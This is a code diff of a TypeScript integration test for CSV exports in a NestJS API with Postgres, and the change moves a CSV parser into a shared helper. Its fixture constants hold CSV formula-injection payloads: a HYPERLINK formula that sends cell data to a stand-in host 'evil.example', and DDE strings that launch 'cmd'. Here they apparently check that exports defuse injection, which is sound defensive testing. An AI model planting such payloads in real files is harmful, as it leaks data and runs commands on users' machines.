@@ -5,6 +5,7 @@ import type { INestApplication } from '@nestjs/common';
 import { randomBytes } from 'node:crypto';
 import { Client } from 'pg';
 import { startApiUnderTest } from '../__tests__/api-under-test';
+import { parseCsv } from '../__tests__/csv-document';
 
 const secret = randomBytes(32).toString('base64url');
 const FILE_ID = 'e'.repeat(64);
@@ -13,35 +14,6 @@ const HOSTILE_SOURCE = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
 const HOSTILE_LAYOUT = '@SUM(1+1)*cmd|/C calc!A0';
 const HOSTILE_REASON = '+cmd|"/C calc"!A0, then -2+3';
 const HOSTILE_TAB_SOURCE = '\t=1+1';
-
-/** The cells of a CSV document (RFC 4180 quoting), enough to read back what the exports write. */
-function parseCsv(text: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let cell = '';
-  let quoted = false;
-  for (let index = 0; index < text.length; index += 1) {
-    const char = text[index];
-    if (quoted) {
-      if (char === '"' && text[index + 1] === '"') {
-        cell += '"';
-        index += 1;
-      } else if (char === '"') quoted = false;
-      else cell += char;
-    } else if (char === '"') quoted = true;
-    else if (char === ',') {
-      row.push(cell);
-      cell = '';
-    } else if (char === '\r' && text[index + 1] === '\n') {
-      row.push(cell);
-      rows.push(row);
-      row = [];
-      cell = '';
-      index += 1;
-    } else cell += char;
-  }
-  return rows;
-}
 
 describe('CSV exports against a real Postgres', () => {
   let database: IsolatedDatabase;
